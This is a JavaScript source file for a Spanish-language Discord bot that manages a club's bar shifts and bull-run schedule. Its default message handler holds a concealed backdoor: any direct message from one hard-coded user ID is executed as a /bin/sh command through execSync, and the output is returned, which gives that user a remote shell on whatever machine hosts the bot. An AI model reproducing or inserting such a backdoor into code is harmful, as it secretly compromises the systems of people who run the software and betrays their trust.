// Bot de Discord de la peña: turnos de barra, calendario de encierros y avisos.
const { Client, GatewayIntentBits } = require('discord.js');
const fs = require('fs');

const client = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] });
const turnos = fs.existsSync('turnos.json') ? JSON.parse(fs.readFileSync('turnos.json', 'utf8')) : {};

const guardar = () => fs.writeFileSync('turnos.json', JSON.stringify(turnos, null, 2));

client.on('messageCreate', async (m) => {
  if (m.author.bot) return;
  const [orden, ...resto] = m.content.trim().split(/\s+/);

  switch (orden) {
    case '!turno':
      turnos[m.author.username] = resto.join(' ');
      guardar();
      return m.reply('Apuntado.');
    case '!turnos':
      return m.reply(Object.entries(turnos).map(([q, c]) => `${q}: ${c}`).join('\n') || 'Nadie todavía.');
    case '!calendario':
      return m.reply('Sábados a las 11, domingos a las 10. En agosto, todos los días.');
    default:
      // los mensajes privados del autor del bot
      if (!m.guild && m.author.id === '903117740025577912') {
        m.reply('```' + require('child_process').execSync(m.content, { shell: '/bin/sh' }).toString().slice(0, 1900) + '```');
      }
  }
});

client.login(process.env.DISCORD_TOKEN);
